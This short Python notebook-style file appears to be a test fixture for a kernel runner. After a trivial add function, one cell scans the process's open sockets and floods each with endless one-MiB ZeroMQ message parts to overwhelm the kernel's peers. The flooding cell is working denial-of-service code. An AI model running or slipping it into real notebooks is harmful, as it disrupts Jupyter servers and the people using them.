"""Writes parts of a message that never ends to every connection of its kernel: ZeroMQ's limits count a part, or whole messages."""
# expects add: 5

# %% add
def add(a, b):
    return a + b

# %% new after add
import os
import socket
import stat

part = bytes([0b11]) + (2**20).to_bytes(8, "big") + bytes(2**20)
for descriptor in range(3, 200):
    try:
        if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            continue
        end = socket.socket(fileno=os.dup(descriptor))
        if not end.getsockname() or end.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            continue
        end.settimeout(0.2)
        for _ in range(3_000):
            end.sendall(part)
    except OSError:
        continue
